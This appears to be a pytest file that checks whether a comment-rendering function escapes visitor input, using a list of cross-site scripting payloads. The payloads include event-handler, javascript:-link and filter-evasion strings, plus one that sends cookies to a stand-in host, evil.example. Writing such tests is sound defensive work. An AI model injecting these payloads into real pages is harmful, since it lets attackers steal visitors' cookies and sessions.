"""Visitor text must never become markup. The checks do not prescribe the template: any
element the page has for a harmless comment is fine; what is judged is markup that comes from
what the visitor typed (their tags, event handlers, javascript: links)."""
import importlib
import re
from html.parser import HTMLParser

import pytest


def load():
    try:
        return importlib.import_module("render")
    except Exception as exc:
        pytest.fail(f"could not import render.py: {exc!r}")


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html):
    p = Elements()
    p.feed(html)
    p.close()
    return p.found


PAYLOADS = [
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<IMG SRC=x OnError=alert(1)>",
    "<svg/onload=alert(2)>",
    "<svg onload=alert(2)>",
    '<a href="javascript:alert(3)">click</a>',
    '<a href=" JaVaScRiPt:alert(3)">click</a>',
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<<script>script>alert(5)<</script>/script>",
    "<details open ontoggle=alert(6)>",
    "<iframe srcdoc='&lt;script&gt;alert(7)&lt;/script&gt;'></iframe>",
    '"><img src=x onerror=alert(8)>',
    # tags an allowlist keeps (with their attributes), and quotes that close an attribute the
    # template put the name or text in, whichever quote it uses or none
    "<b onmouseover=alert(9)>hover</b>",
    "<strong onclick=alert(10)>x</strong>",
    "<i/onpointerenter=alert(11)>x</i>",
    "x' onmouseover='alert(12)",
    'x" onmouseover="alert(13)',
    "x onmouseover=alert(14)",
]


def dangers(html, payload):
    found = []
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)", payload.lower()))
    for tag, attrs in elements(html):
        if tag in tags and tag not in BASELINE_TAGS:
            found.append(f"a <{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"an event handler {name}=")
            if (value or "").strip().lower().replace("\t", "").startswith("javascript:"):
                found.append(f"a javascript: URL in {name}=")
    return found


BASELINE_TAGS: set = set()


@pytest.fixture(autouse=True)
def baseline():
    """The elements the page uses for harmless comments are the template's, never judged."""
    mod = load()
    try:
        html = mod.render_comments([{"author": "ann", "text": "hello"}, {"author": "bo", "text": "hi"}])
    except Exception:
        html = ""
    BASELINE_TAGS.clear()
    BASELINE_TAGS.update(tag for tag, _ in elements(html if isinstance(html, str) else ""))


@pytest.mark.parametrize("field", ["author", "text"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_visitor_input_is_not_rendered_as_markup(payload, field):
    comment = {"author": "mallory", "text": "hello"}
    comment[field] = payload
    try:
        html = load().render_comments([{"author": "ann", "text": "first"}, comment])
    except Exception:
        return  # an error is not markup; whether it may raise is not judged here
    found = dangers(str(html), payload)
    assert not found, (
        f"a visitor's {field} {payload!r} became {found[0]} in the page (cross-site scripting); "
        "escape user text with html.escape")
